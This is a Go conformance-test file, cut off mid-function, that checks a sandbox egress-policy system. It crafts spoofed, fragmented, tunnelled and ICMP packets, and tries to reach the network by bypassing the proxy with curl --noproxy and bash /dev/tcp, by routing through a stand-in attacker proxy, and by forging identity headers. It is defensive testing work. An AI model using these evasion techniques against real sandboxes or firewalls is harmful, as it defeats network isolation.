package conformance

import (
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"strings"
	"time"

	"github.com/miekg/dns"

	"github.com/cordonhq/cordon/client"
	"github.com/cordonhq/cordon/proving/conformance/probe"
	"github.com/cordonhq/cordon/proving/lab"
)

func lowerCases() []Case {
	const group = "Lower layers"
	return []Case{
		{ID: 55, Group: group, Title: "a spoofed source, IP or MAC", Run: spoofed},
		{ID: 57, Group: group, Title: "IPv6, tunnels, SCTP, fragments, raw sockets", Run: otherPackets},
		{ID: 58, Group: group, Title: "ICMP tunnels", Run: icmpTunnels},
		{ID: 59, Group: group, Title: "live flows after tightening", Run: liveFlows},
		{ID: 60, Group: group, Title: "before the policy, without the proxy, after a resume, on a used address", Run: unguarded, Within: 60 * time.Second},
		{ID: 61, Group: group, Title: "the proxy's ports addressed directly, identity from headers", Run: proxyPorts},
		{ID: 62, Group: group, Title: "tools that ignore or choose proxies", Run: otherProxies},
		{ID: 64, Group: group, Title: "sandbox to sandbox", Run: betweenSandboxes},
		{ID: 80, Group: group, Title: "a program that wants the agent's port", Run: agentsPort},
	}
}

// frames sends frames from the sandbox's end of its link, as Subject.Takeover
// makes possible, and listens for a moment. What comes back to a port that nobody
// has open in the sandbox is answered by it, with an ICMP error that quotes it,
// whenever it comes to that: datagrams that are to arrive go to unheard, where
// nobody answers.
func frames(packets ...[]byte) []probe.Order {
	return []probe.Order{{Kind: probe.Frames, To: "eth0", Parts: packets, Within: 300 * time.Millisecond}}
}

// patiently gives what is to come back more time than a moment.
func patiently(orders []probe.Order) []probe.Order {
	for i := range orders {
		orders[i].Within = 1500 * time.Millisecond
	}
	return orders
}

// unheard is a port that no server of the lab has: discard, RFC 863.
const unheard = 9

// takeover is Subject.Takeover, or the end of the case.
func (t *Trial) takeover(s *Subject) link {
	l, err := s.Takeover(t.ctx, t)
	t.must("take the place of the runtime", err)
	return l
}

func spoofed(t *Trial) {
	s := t.Sandbox(everything())
	neighbour, err := t.Sandbox(standard()).Addr(t.ctx)
	t.must("find another sandbox's address", err)
	l := t.takeover(s)
	datagram := func(from netip.Addr) []byte {
		src, dst := netip.AddrPortFrom(from, 5555), netip.AddrPortFrom(addrB, unheard)
		return frame(l, nil, ipv4(protoUDP, from, addrB, udpHeader(src, dst, []byte("canary-55"))))
	}
	syn := func(from netip.Addr) []byte {
		src, dst := netip.AddrPortFrom(from, 5556), netip.AddrPortFrom(addrB, 80)
		return frame(l, nil, ipv4(protoTCP, from, addrB, tcpSYN(src, dst, []byte("canary-55"))))
	}
	var packets [][]byte
	for _, from := range []netip.Addr{
		neighbour, t.suite.stand.lab.HostAddr(), l.gate.Addr(), addrA, netip.MustParseAddr("127.0.0.1"), netip.IPv4Unspecified(),
		netip.MustParseAddr("10.223.255.2"), s.addr.Next(),
	} {
		packets = append(packets, datagram(from), syn(from))
	}
	t.Try(Try{
		What: "another sandbox's address, the host's, public ones, UDP and TCP", By: s, Below: true, Orders: frames(packets...),
		Never: []string{"canary-55"}, Log: denied("spoofed-source"),
	})
	wrongMAC := append([]byte{}, datagram(s.addr)...)
	copy(wrongMAC[6:], net.HardwareAddr{2, 0, 0, 0, 0, 1})
	v6 := ipv6(protoUDP, twin(addrA), twin(addrB), udpHeader(netip.AddrPortFrom(twin(addrA), 5555), netip.AddrPortFrom(twin(addrB), unheard), []byte("canary-55")))
	t.Try(Try{
		What: "its own address with another MAC, an IPv6 address of the internet", By: s, Below: true, Orders: frames(wrongMAC, frame(l, nil, v6)),
		Never: []string{"canary-55"}, Log: denied("spoofed-source"),
	})
	t.Try(Try{
		What: "control: the same datagram from its own address", By: s, Below: true, Orders: frames(datagram(s.addr)),
		Reaches: []Arrival{{At: addrB, Text: "canary-55"}}, Log: allowed("default"),
	})
}

func otherPackets(t *Trial) {
	open := t.Sandbox(everything())
	l := t.takeover(open)
	inner := ipv4(protoUDP, open.addr, addrB, udpHeader(netip.AddrPortFrom(open.addr, 5), netip.AddrPortFrom(addrB, 4000), []byte("canary-57")))
	var packets [][]byte
	for _, proto := range []byte{protoIGMP, protoIPIP, protoDCCP, proto6in4, protoESP, protoSCTP, protoUDPLite, 255} {
		packets = append(packets, frame(l, nil, ipv4(proto, open.addr, addrAttacker, inner)))
	}
	gre := append([]byte{0, 0, 8, 0}, inner...)
	packets = append(packets, frame(l, nil, ipv4(protoGRE, open.addr, addrAttacker, gre)), frame(l, nil, ipv6(proto6in4, open.addr6, twin(addrAttacker), inner)))
	t.Try(Try{
		What: "IGMP, IPIP, DCCP, 6in4, GRE, ESP, SCTP, UDP-Lite, even with no rules", By: open, Below: true, Orders: frames(packets...),
		Never: []string{"canary-57"}, Log: denied("protocol"),
	})
	notB := t.Sandbox(client.Network{DenyOut: []string{addrB.String(), twin(addrB).String()}})
	fragments(t, notB)
	extensions(t, notB)
	s := t.Sandbox(standard())
	t.Try(Try{
		What: "IPv6 to B, on 4000 by TCP and UDP", By: s,
		Orders: []probe.Order{tcp(twin(addrB), 4000, []byte("canary-57")), udp(twin(addrB), 4000, []byte("canary-57"))},
		Never:  []string{"canary-57"}, Answer: unanswered, Log: denied("deny-address"),
	})
	t.Try(Try{
		What: "IPv6 to B, on 80 and 443", By: s,
		Orders: []probe.Order{http80(twin(addrB), get(nameB, "/canary-57")), hello(twin(addrB), newHello(nameB).bytes())},
		Never:  []string{"canary-57", nameB}, Answer: cut, Log: Want{"deny", []string{"name-denied"}, nameB},
	})
	rawSockets(t, s)
}

// fragments: a packet is judged whole, however it comes.
func fragments(t *Trial, s *Subject) {
	l := t.takeover(s)
	long := append([]byte("canary-57"), make([]byte, 600)...)
	cutUp := func(id uint16, dst netip.Addr, sizes ...int) (out [][]byte) {
		whole := udpHeader(netip.AddrPortFrom(s.addr, 5557), netip.AddrPortFrom(dst, unheard), long)
		for offset := 0; offset < len(whole); {
			size := len(whole) - offset
			if len(sizes) > 0 {
				size, sizes = min(size, sizes[0]), sizes[1:]
			}
			f := fragment{id: id, offset: offset, more: offset+size < len(whole)}
			out = append(out, frame(l, nil, f.ipv4(protoUDP, s.addr, dst, whole[offset:offset+size])))
			offset += size
		}
		return out
	}
	tiny, halves := cutUp(1, addrB, 8), cutUp(2, addrB, 304)
	t.Try(Try{
		What: "fragments to a denied address: header alone, halves, backwards, without the first", By: s, Below: true,
		Orders: frames(append(append(append([][]byte{}, tiny...), halves[1], halves[0]), cutUp(3, addrB, 304)[1])...),
		Never:  []string{"canary-57"}, Log: denied("deny-address"),
	})
	t.Try(Try{
		What: "control: the same to another address", By: s, Below: true, Orders: frames(append(cutUp(4, addrA, 8), cutUp(5, addrA, 304)...)...),
		Reaches: []Arrival{{At: addrA, Text: "canary-57"}}, Log: allowed("default"),
	})
	byPort := t.Sandbox(only(netip.AddrPortFrom(addrB, unheard).String()))
	l = t.takeover(byPort)
	good := udpHeader(netip.AddrPortFrom(byPort.addr, 5558), netip.AddrPortFrom(addrB, unheard), long[:80])
	bad := udpHeader(netip.AddrPortFrom(byPort.addr, 5558), netip.AddrPortFrom(addrB, 4000), long[:80])
	part := func(id uint16, b []byte, offset int, more bool) []byte {
		return frame(l, nil, fragment{id: id, offset: offset, more: more}.ipv4(protoUDP, byPort.addr, addrB, b))
	}
	t.Try(Try{
		What: "a fragment that overwrites the allowed port by another", By: byPort, Below: true,
		Orders: frames(part(6, good[:24], 0, true), part(6, bad[:32], 0, true), part(6, bad[32:], 32, false),
			part(7, bad[8:], 8, false), part(7, good[:16], 0, true), part(7, bad[:8], 0, true)),
		Never: []string{"canary-57"},
	})
	t.Try(Try{
		What: "control: the allowed port, in fragments", By: byPort, Below: true,
		Orders:  frames(part(8, good[:24], 0, true), part(8, good[24:], 24, false)),
		Reaches: []Arrival{{At: addrB, Text: "canary-57"}}, Log: allowed("allow-address"),
	})
}

// extensions: headers between IPv6's and the transport's hide nothing.
func extensions(t *Trial, s *Subject) {
	l := t.takeover(s)
	segment := func(dst netip.Addr) []byte {
		return udpHeader(netip.AddrPortFrom(s.addr6, 5559), netip.AddrPortFrom(dst, unheard), []byte("canary-57"))
	}
	option := func(next byte) []byte { return []byte{next, 0, 1, 4, 0, 0, 0, 0} } // padding: RFC 8200 section 4.2
	routing := append([]byte{protoUDP, 2, 0, 1, 0, 0, 0, 0}, twin(addrB).AsSlice()...)
	piece := []byte{protoUDP, 0, 0, 0, 0, 0, 0, 9} // an atomic fragment: RFC 6946
	b := twin(addrB)
	var packets [][]byte
	for next, header := range map[byte][]byte{0: option(protoUDP), 60: option(protoUDP), 44: piece} {
		packets = append(packets, frame(l, nil, ipv6(next, s.addr6, b, append(bytes.Clone(header), segment(b)...))))
	}
	packets = append(packets, frame(l, nil, ipv6(0, s.addr6, b, append(append(option(60), option(protoUDP)...), segment(b)...))))
	t.Try(Try{
		What: "IPv6 extension headers before a datagram to a denied address", By: s, Below: true, Orders: frames(packets...),
		Never: []string{"canary-57"}, Log: denied("deny-address", "protocol"),
	})
	t.Try(Try{
		What: "a routing header that leads to it", By: s, Below: true,
		Orders: frames(frame(l, nil, ipv6(43, s.addr6, twin(addrA), append(routing, segment(b)...)))),
		May:    []Arrival{{At: twin(addrA)}}, // to whom it is addressed, and who does not pass it on
	})
	t.Try(Try{
		What: "control: an IPv6 datagram without them, elsewhere", By: s, Below: true,
		Orders:  frames(frame(l, nil, ipv6(protoUDP, s.addr6, twin(addrA), segment(twin(addrA))))),
		Reaches: []Arrival{{At: twin(addrA), Text: "canary-57"}}, Log: allowed("default"),
	})
}

// rawSockets: inside, not even root makes packets of its own.
func rawSockets(t *Trial, s *Subject) {
	const script = `
import socket
for args in ((socket.AF_INET, socket.SOCK_RAW, 255), (socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_INET6, socket.SOCK_RAW, 58), (17, socket.SOCK_RAW, 0x300), (17, socket.SOCK_DGRAM, 0x300)):
    try:
        socket.socket(*args)
        print('opened', args)
    except OSError as e:
        pass
print('done')
`
	t.Try(Try{What: "raw and packet sockets as root of the sandbox", By: s, Do: func(ctx context.Context) error {
		if err := s.Files.Write(ctx, "/tmp/raw.py", strings.NewReader(script)); err != nil {
			return err
		}
		r, err := s.Commands.Run(ctx, "sudo python3 /tmp/raw.py", client.RunOptions{})
		if err == nil && r.Stdout != "done\n" {
			err = fmt.Errorf("it says %q %q", r.Stdout, r.Stderr)
		}
		return err
	}})
}

func icmpTunnels(t *Trial) {
	s, open := t.Sandbox(standard()), t.Sandbox(everything())
	canary := []byte("canary-58 in an echo request")
	l := t.takeover(s)
	echo := func(l link, from, to netip.Addr) []byte {
		return frame(l, nil, ipv4(protoICMP, from, to, icmp(8, 0, canary)))
	}
	t.Try(Try{
		What: "echo requests to A, B and the attacker", By: s, Below: true,
		Orders: frames(echo(l, s.addr, addrA), echo(l, s.addr, addrB), echo(l, s.addr, addrAttacker)),
		Never:  []string{"canary-58"}, Log: denied("deny-address"),
	})
	l = t.takeover(open)
	var packets [][]byte
	for _, kind := range []byte{0, 3, 4, 5, 9, 10, 11, 12, 13, 15, 17, 42} {
		packets = append(packets, frame(l, nil, ipv4(protoICMP, open.addr, addrB, icmp(kind, 0, canary))))
	}
	t.Try(Try{
		What: "every other type, even with no rules", By: open, Below: true, Orders: frames(packets...),
		Never: []string{"canary-58"}, Log: denied("protocol"),
	})
	t.Try(Try{
		What: "control: an echo request with no rules", By: open, Below: true, Orders: patiently(frames(echo(l, open.addr, addrB))),
		Reaches: []Arrival{{At: addrB, Text: "canary-58"}}, Log: allowed("default"),
		Answer: func(got probe.Outcome) error {
			for _, r := range got.Replies {
				if bytes.Contains(r, canary) {
					return nil
				}
			}
			return errors.New("no echo reply came")
		},
	})
}

// liveFlows: what the new rules refuse is cut within a second, in the kernel and
// in the proxy; what they allow is not touched.
func liveFlows(t *Trial) {
	s := t.Fresh(only(nameA, addrB.String()))
	tick := []byte("tick canary-59\n")
	forever := func(o probe.Order) probe.Order {
		o.Repeat, o.Gap, o.Within = true, 50*time.Millisecond, 10*time.Second
		return o
	}
	chunk := append([]byte("POST /echo HTTP/1.1\r\nHost: "+nameA+"\r\nTransfer-Encoding: chunked\r\n\r\n"), "f\r\n"+string(tick)+"\r\n"...)
	upload := http80(addrA, chunk)
	for range 200 {
		upload.Parts = append(upload.Parts, []byte("f\r\n"+string(tick)+"\r\n"))
	}
	upload.Gap, upload.Within = 50*time.Millisecond, 10*time.Second
	tls := https(addrA, nameA, keep(nameA, "/canary-59"))
	datagrams := udp(addrB, 4000, tick)
	for range 150 {
		datagrams.Parts = append(datagrams.Parts, tick)
	}
	datagrams.Gap, datagrams.Want, datagrams.Within = 50*time.Millisecond, 0, 10*time.Second
	orders := []probe.Order{forever(tcp(addrB, 4000, tick)), upload, forever(tls), datagrams}
	t.Try(Try{
		What: "TCP, UDP, HTTP and TLS that go on, after all is taken away", By: s, Slow: 10 * time.Second, LogOnce: true,
		Do: func(ctx context.Context) error {
			return t.cutLive(ctx, s, orders, only(nameShared))
		},
		Reaches: []Arrival{{At: addrA}, {At: addrB}}, Log: denied("revoked"),
	})
	s = t.Fresh(only(addrB.String()))
	t.Try(Try{
		What: "control: a flow that the new rules allow goes on", By: s, Slow: 10 * time.Second,
		Do: func(ctx context.Context) error {
			o := forever(tcp(addrB, 4000, tick))
			o.Within = 4 * time.Second
			c, err := s.inside.begin(ctx, o)
			if err != nil {
				return err
			}
			time.Sleep(time.Second)
			if err := s.SetNetwork(ctx, only(nameA, addrB.String())); err != nil {
				return err
			}
			if got := <-c; got.End != probe.Timeout || len(got.Received) < 20*len(tick) {
				return errors.New("it was cut: " + describe(got))
			}
			return nil
		},
		Reaches: []Arrival{{At: addrB, Port: 4000, Text: "canary-59"}}, Log: allowed("allow-address"),
	})
}

// cutLive starts flows, takes their permission away, and looks whether they end
// within a second and nothing of theirs arrives after it.
func (t *Trial) cutLive(ctx context.Context, s *Subject, orders []probe.Order, after client.Network) error {
	var ends []<-chan probe.Outcome
	for _, o := range orders {
		c, err := s.inside.begin(ctx, o)
		if err != nil {
			return err
		}
		ends = append(ends, c)
	}
	r := t.suite.stand.lab.Recorder()
	if err := t.underWay(r); err != nil {
		return err
	}
	if err := s.SetNetwork(ctx, after); err != nil {
		return err
	}
	time.Sleep(time.Second)
	mark := r.Mark()
	time.Sleep(500 * time.Millisecond)
	late := r.Since(mark).Where(func(p lab.Packet) bool { return len(p.Payload) > 0 })
	if err := late.None(); err != nil {
		return fmt.Errorf("a second after: %w", err)
	}
	for i, c := range ends {
		select {
		case got := <-c:
			if got.End != probe.Reset && got.End != probe.EOF && got.End != probe.Refused {
				return fmt.Errorf("order %d was not cut: %s", i, describe(got))
			}
			if !got.Connected && orders[i].Kind == probe.Stream || got.Sent < 3*10 {
				return fmt.Errorf("order %d never worked: %s", i, describe(got))
			}
		case <-time.After(2 * time.Second):
			if orders[i].Kind == probe.Stream { // UDP may be told nothing
				return fmt.Errorf("order %d goes on", i)
			}
		}
	}
	return nil
}

// underWay waits until each of the flows has carried a few packets of its own: of
// TLS, the hello, its end and a request.
func (t *Trial) underWay(r *lab.Recorder) error {
	const few = 3
	for deadline := time.Now().Add(5 * time.Second); ; time.Sleep(50 * time.Millisecond) {
		seen := t.suite.wire.since(r).Where(func(p lab.Packet) bool { return len(p.Payload) > 0 })
		slow := 0
		for _, flow := range []struct {
			proto uint8
			port  uint16
		}{{lab.ProtoTCP, 80}, {lab.ProtoTCP, 443}, {lab.ProtoTCP, 4000}, {lab.ProtoUDP, 4000}} {
			if there := seen.ToPort(flow.port).Proto(flow.proto); len(there.Packets()) < few {
				slow = int(flow.port)
			}
		}
		if slow == 0 {
			return nil
		}
		if time.Now().After(deadline) {
			return fmt.Errorf("no flow to port %d began", slow)
		}
	}
}

// unguarded: at no moment is a sandbox without its rules.
func unguarded(t *Trial) {
	waitingSlots(t)
	withoutServer(t)
	afterResume(t)
	usedAddress(t)
}

// waitingSlots: a namespace that has no sandbox yet, or no longer, has no network.
func waitingSlots(t *Trial) {
	all, err := t.suite.stand.links()
	t.must("list the links", err)
	taken := map[netip.Addr]bool{}
	for _, s := range t.suite.subjects {
		a, err := s.Addr(t.ctx)
		t.must("find a sandbox's address", err)
		taken[a] = true
	}
	t.Try(Try{
		What: "UDP and TCP from namespaces in waiting", Never: []string{"canary-60"},
		Do: func(ctx context.Context) error {
			tried := 0
			for _, l := range all {
				if taken[l.guest()] || tried == 6 {
					continue
				}
				switch err := sendFrom(ctx, t.suite.stand, l); {
				case errors.Is(err, errProbeGone): // as the namespace is
				case err != nil:
					return err
				default:
					tried++
				}
			}
			if tried == 0 {
				return errors.New("there are none")
			}
			return nil
		},
	})
}

// sendFrom sends what is allowed without rules from a link that has none.
func sendFrom(ctx context.Context, s *stand, l link) error {
	p, cmd, err := s.probeIn(l.netns)
	if err != nil {
		return err
	}
	src := netip.AddrPortFrom(l.guest(), 5560)
	udp := udpHeader(src, netip.AddrPortFrom(addrB, 4000), []byte("canary-60"))
	syn := tcpSYN(src, netip.AddrPortFrom(addrB, 80), []byte("canary-60"))
	got, err := p.do(ctx, frames(frame(l, nil, ipv4(protoUDP, l.guest(), addrB, udp)), frame(l, nil, ipv4(protoTCP, l.guest(), addrB, syn))))
	_ = cmd.Process.Kill() // it waits for orders, or is gone
	<-p.ended
	if err == nil && got[0].Sent == 0 {
		return fmt.Errorf("%w: %s", errProbeGone, got[0].End) // the link was taken away
	}
	return err
}

// withoutServer: the rules are the kernel's and outlive the server; what needs the
// proxy or the resolver is refused.
func withoutServer(t *Trial) {
	s := t.Sandbox(only(nameA, addrAttacker.String()))
	l := t.takeover(s)
	syn := func(to netip.Addr, port uint16) []byte {
		src, dst := netip.AddrPortFrom(s.addr, 5561), netip.AddrPortFrom(to, port)
		return frame(l, nil, ipv4(protoTCP, s.addr, to, tcpSYN(src, dst, nil)))
	}
	datagram := func(to netip.Addr, port uint16, payload []byte) []byte {
		src, dst := netip.AddrPortFrom(s.addr, 5562), netip.AddrPortFrom(to, port)
		return frame(l, nil, ipv4(protoUDP, s.addr, to, udpHeader(src, dst, payload)))
	}
	refusals := func(got probe.Outcome) int {
		from := map[string]bool{}
		for _, r := range got.Replies { // behind 14 octets of Ethernet and 20 of IPv4
			if len(r) >= 14+40 && r[14+9] == protoTCP && r[14+20+13]&lab.FlagRST != 0 && binary.BigEndian.Uint16(r[14+22:]) == 5561 {
				from[string(r[14+12:14+16])+string(r[14+20:14+22])] = true
			}
		}
		return len(from)
	}
	t.must("kill the server and start it again", t.suite.restart(t.ctx, func() error {
		t.Try(Try{
			What: "while the server is dead: A and B on 80, 443 and others, DNS", Never: []string{"canary-60", nameA},
			Do: func(ctx context.Context) error {
				got, err := s.below.do(ctx, patiently(frames(syn(addrA, 80), syn(addrB, 80), syn(addrA, 443), syn(addrB, 443), syn(addrB, 4000),
					datagram(addrB, 4000, []byte("canary-60")), datagram(addrDNS, 53, query(nameA, dns.TypeA)))))
				if err == nil && refusals(got[0]) != 5 {
					err = fmt.Errorf("%d of 5 connections were refused: %s", refusals(got[0]), describe(got[0]))
				}
				return err
			},
		})
		t.Try(Try{
			What: "control: an allowed address is reached all the time", Reaches: []Arrival{{At: addrAttacker, Text: "canary-60"}},
			Do: func(ctx context.Context) error {
				_, err := s.below.do(ctx, frames(datagram(addrAttacker, unheard, []byte("canary-60"))))
				return err
			},
		})
		return nil
	}))
	s = t.Sandbox(only(nameA, addrAttacker.String())) // its probe is started again
	t.Try(Try{
		What: "B after the restart", By: s, Orders: []probe.Order{http80(addrB, get(nameB, "/canary-60")), tcp(addrB, 4000, []byte("canary-60"))},
		Never: []string{"canary-60"}, Answer: cut, Log: denied("name-denied", "deny-address"),
	})
	t.Try(Try{
		What: "control: A after the restart", By: s, Orders: []probe.Order{http80(addrA, get(nameA, "/"))},
		Reaches: reachesA, Answer: served(addrA, nameA), Log: allowed("allow-name"),
	})
}

func afterResume(t *Trial) {
	s := t.Fresh(standard())
	t.Try(Try{
		What: "a loop that asks for B, through a pause and a resume", By: s, Slow: 20 * time.Second, LogOnce: true, Never: []string{"canary-60"},
		Do: func(ctx context.Context) error {
			loop := fmt.Sprintf("while :; do curl -s -m1 -o /dev/null -H 'Host: %s' http://%s/canary-60 http://%s:4000/canary-60; done", nameB, addrB, addrB)
			p, err := s.Commands.Start(ctx, loop, client.RunOptions{})
			if err != nil {
				return err
			}
			time.Sleep(300 * time.Millisecond)
			p.Close()
			if err := s.Pause(ctx); err != nil {
				return err
			}
			again, err := t.suite.client.Connect(ctx, s.ID, 5*time.Minute)
			if err != nil {
				return err
			}
			s.process.Close()
			s.Sandbox = again
			if err := s.startProbe(ctx); err != nil {
				return err
			}
			time.Sleep(500 * time.Millisecond)
			r, err := s.Commands.Run(ctx, "pkill curl; pgrep -f canary-60 >/dev/null && pkill -f canary-60; true", client.RunOptions{})
			if err == nil && r.ExitCode > 128 {
				return nil // it ended itself as well
			}
			return err
		},
		Log: denied("name-denied"),
	})
	t.Try(Try{
		What: "control: A after the resume", By: s, Orders: []probe.Order{http80(addrA, get(nameA, "/"))},
		Reaches: reachesA, Answer: served(addrA, nameA), Log: allowed("allow-name"),
	})
}

// usedAddress: an address rests before somebody else has it.
func usedAddress(t *Trial) {
	s := t.Fresh(everything())
	old, err := s.Addr(t.ctx)
	t.must("find the sandbox's address", err)
	t.Try(Try{What: "the address of a sandbox that was killed is nobody's for a while", Do: func(ctx context.Context) error {
		if err := s.Kill(ctx); err != nil {
			return err
		}
		for range 2 {
			a, err := t.Fresh(only(nameB)).Addr(ctx)
			if err != nil {
				return err
			}
			if a == old {
				return fmt.Errorf("the next sandbox has %s again", a)
			}
		}
		return nil
	}})
}

func proxyPorts(t *Trial) {
	s, open := t.Sandbox(standard()), t.Sandbox(everything())
	for _, by := range []*Subject{s, open} {
		_, err := by.Addr(t.ctx)
		t.must("find the sandbox's address", err)
		l, err := t.suite.stand.linkOf(by.addr)
		t.must("find the sandbox's link", err)
		what := "standard rules"
		if by == open {
			what = "no rules"
		}
		host := t.suite.stand.lab.HostAddr()
		var orders []probe.Order
		for _, a := range []netip.Addr{host, l.gate.Addr()} {
			for _, port := range []uint16{15001, 15053, 3900, 3901} {
				orders = append(orders, tcp(a, port, get(nameB, "/canary-61")))
			}
		}
		t.Try(Try{
			What: "the ports of proxy, resolver, API and metrics, under " + what, By: by, Orders: orders,
			Never: []string{"canary-61"}, Answer: refused, Log: denied("floor"),
		})
		t.Try(Try{
			What: "the resolver's port by UDP, under " + what, By: by,
			Orders: []probe.Order{udp(host, 15053, query(nameB, dns.TypeA)), udp(l.gate.Addr(), 15053, query(nameB, dns.TypeA))},
			Answer: unanswered, Log: denied("floor"),
		})
	}
	loopbackFrames(t, open)
	borrowedIdentity(t, s, open)
}

// loopbackFrames: the host's own loopback is not on a sandbox's link.
func loopbackFrames(t *Trial, open *Subject) {
	l := t.takeover(open)
	loopback := netip.MustParseAddr("127.0.0.1")
	var packets [][]byte
	for _, port := range []uint16{15001, 3900} {
		packets = append(packets, frame(l, nil, ipv4(protoTCP, open.addr, loopback, tcpSYN(netip.AddrPortFrom(open.addr, 5563), netip.AddrPortFrom(loopback, port), nil))))
	}
	t.Try(Try{
		What: "the host's loopback, by a frame", By: open, Below: true, Orders: frames(packets...),
		Answer: func(got probe.Outcome) error {
			for _, r := range got.Replies {
				if len(r) > 14+33 && r[14+9] == protoTCP && r[14+33]&lab.FlagSYN != 0 {
					return errors.New("a connection was accepted")
				}
			}
			return nil
		},
		Log: denied("floor"), LogOnce: true,
	})
}

// borrowedIdentity: who a sandbox is says its link, and nothing that it sends.
func borrowedIdentity(t *Trial, s, open *Subject) {
	headers := func(names ...string) []byte {
		var b strings.Builder
		fmt.Fprintf(&b, "GET /canary-61 HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n", nameB)
		for _, n := range names {
			fmt.Fprintf(&b, "%s: %s\r\n", n, open.ID)
		}
		fmt.Fprintf(&b, "X-Forwarded-For: %s\r\nForwarded: for=%s\r\nX-Real-IP: %s\r\n\r\n", open.addr, open.addr, open.addr)
		return []byte(b.String())
	}
	t.Try(Try{
		What: "headers that name another sandbox, which may reach B", By: s,
		Orders: []probe.Order{http80(addrB, headers("E2b-Sandbox-Id", "Novita-Sandbox-Id", "X-Sandbox-Id")), http80(addrB, append([]byte("PROXY TCP4 "+open.addr.String()+" "+addrB.String()+" 1 80\r\n"), headers()...))},
		Never:  []string{"canary-61"}, Answer: cut, Log: denied("name-denied", "bad-request"),
	})
}

func otherProxies(t *Trial) {
	s := t.Sandbox(standard())
	run := func(command string) func(context.Context) error {
		return func(ctx context.Context) error {
			r, err := s.Commands.Run(ctx, command, client.RunOptions{})
			if got := r.Stdout; err == nil && strings.Contains(got, nameB) && !strings.Contains(got, "# denied by egress policy: "+nameB+" (") {
				err = fmt.Errorf("it got %q", got)
			}
			return err
		}
	}
	url := "http://" + addrB.String() + "/canary-62"
	t.Try(Try{
		What: "curl --noproxy, Python without proxies, a shell's own socket", By: s, Never: []string{"canary-62"}, LogOnce: true, Slow: 12 * time.Second,
		Do: func(ctx context.Context) error {
			return errors.Join(
				run("curl -s -m3 --noproxy '*' -H 'Host: "+nameB+"' "+url)(ctx),
				run(`python3 -c "import urllib.request as u; r = u.Request('`+url+`', headers={'Host': '`+nameB+`'}); print(u.build_opener(u.ProxyHandler({})).open(r, timeout=3).read())" 2>/dev/null`)(ctx),
				run(`exec 3<>/dev/tcp/`+addrB.String()+`/80; printf 'GET /canary-62 HTTP/1.1\r\nHost: `+nameB+`\r\n\r\n' >&3; timeout 3 cat <&3`)(ctx),
			)
		},
		Log: Want{"deny", []string{"name-denied"}, nameB},
	})
	t.Try(Try{
		What: "proxies of its own choice: the attacker's, A's, SOCKS", By: s, Never: []string{"canary-62", nameB}, LogOnce: true, Slow: 12 * time.Second,
		Do: func(ctx context.Context) error {
			return errors.Join(
				run("curl -s -m3 -x http://"+addrAttacker.String()+":8080 http://"+nameB+"/canary-62")(ctx),
				run("curl -s -m3 -x http://"+nameA+":80 http://"+nameB+"/canary-62")(ctx),
				run("curl -s -m3 -p -x http://"+nameA+":80 http://"+nameB+"/canary-62")(ctx),
				run("curl -s -m3 --socks5-hostname "+addrAttacker.String()+":1080 http://"+nameB+"/canary-62")(ctx),
			)
		},
		Asks: []string{nameA}, Log: denied("deny-address"),
	})
	t.Try(Try{
		What: "control: curl --noproxy for A", By: s, Reaches: reachesA, Log: allowed("allow-name"),
		Do: func(ctx context.Context) error {
			r, err := s.Commands.Run(ctx, "curl -s -m3 --noproxy '*' http://"+nameA+"/", client.RunOptions{})
			if err == nil && !strings.Contains(r.Stdout, nameA) {
				err = fmt.Errorf("curl got %q", r.Stdout)
			}
			return err
		},
	})
}

func betweenSandboxes(t *Trial) {
	from, to := t.Sandbox(everything()), t.Fresh(everything())
	_, err := to.Addr(t.ctx)
	t.must("find the other sandbox's address", err)
	l := t.takeover(from)
	listening, err := to.inside.begin(t.ctx, probe.Order{Kind: probe.Listen, To: ":6000", Within: 4 * time.Second})
	t.must("listen in the other sandbox", err)
	canary := []byte("canary-64")
	t.Try(Try{
		What: "TCP to its service and its agent, by IPv4 and IPv6", By: from,
		Orders: []probe.Order{tcp(to.addr, 6000, canary), tcp(to.addr, 49983, canary), tcp(to.addr6, 6000, canary), tcp(to.addr6, 49983, canary)},
		Answer: refused, Log: denied("floor"),
	})
	t.Try(Try{
		What: "UDP", By: from, Orders: []probe.Order{udp(to.addr, 6000, canary), udp(to.addr6, 6000, canary)},
		Answer: unanswered, Log: denied("floor"),
	})
	src, dst := netip.AddrPortFrom(from.addr, 5564), netip.AddrPortFrom(to.addr, 6000)
	t.Try(Try{
		What: "frames: UDP, TCP, ICMP, with its own and a broadcast MAC", By: from, Below: true, LogOnce: true,
		Orders: frames(
			frame(l, nil, ipv4(protoUDP, from.addr, to.addr, udpHeader(src, dst, canary))),
			frame(l, nil, ipv4(protoTCP, from.addr, to.addr, tcpSYN(src, dst, canary))),
			frame(l, nil, ipv4(protoICMP, from.addr, to.addr, icmp(8, 0, canary))),
			frame(link{mac: net.HardwareAddr{255, 255, 255, 255, 255, 255}}, nil, ipv4(protoUDP, from.addr, to.addr, udpHeader(src, dst, canary))),
		), Log: denied("floor"),
	})
	t.Try(Try{
		What: "control: it hears itself, and heard nobody else", By: to, Orders: []probe.Order{udp(netip.MustParseAddr("127.0.0.1"), 6000, []byte("own"))},
		Slow: 5 * time.Second,
		Do: func(ctx context.Context) error {
			select {
			case got := <-listening:
				if len(got.Replies) != 1 || !bytes.HasSuffix(got.Replies[0], []byte("own")) {
					return errors.New(describe(got))
				}
				return nil
			case <-ctx.Done():
				return ctx.Err()
			}
		},
	})
}

// agentsPort has a program of the default user ask for the port that the host calls
// the agent at, on every address, as servers ask for theirs.
func agentsPort(t *Trial) {
	s := t.Sandbox(standard())
	own, err := s.Addr(t.ctx)
	t.must("ask for the sandbox's address", err)
	listen := func(addr netip.Addr, port uint16) probe.Order {
		return probe.Order{Kind: probe.Listen, To: at(addr, port), Within: 500 * time.Millisecond}
	}
	addrs := []netip.Addr{own, netip.MustParseAddr("127.0.0.1"), netip.MustParseAddr("127.0.0.2"), netip.IPv4Unspecified(), netip.IPv6Unspecified(), netip.IPv6Loopback()}
	t.Try(Try{
		What: "listening on the agent's port", By: s,
		Orders: each(addrs, func(a netip.Addr) probe.Order { return listen(a, 49983) }),
		Answer: func(got probe.Outcome) error {
			if !strings.Contains(got.End, "address already in use") {
				return errors.New("the port was given away")
			}
			return nil
		},
	})
	t.Try(Try{
		What: "control: listening on a port that is free", By: s,
		Orders: each(addrs, func(a netip.Addr) probe.Order { return listen(a, 49900) })[:1],
		Answer: func(got probe.Outcome) error {
			if got.End != probe.Timeout {
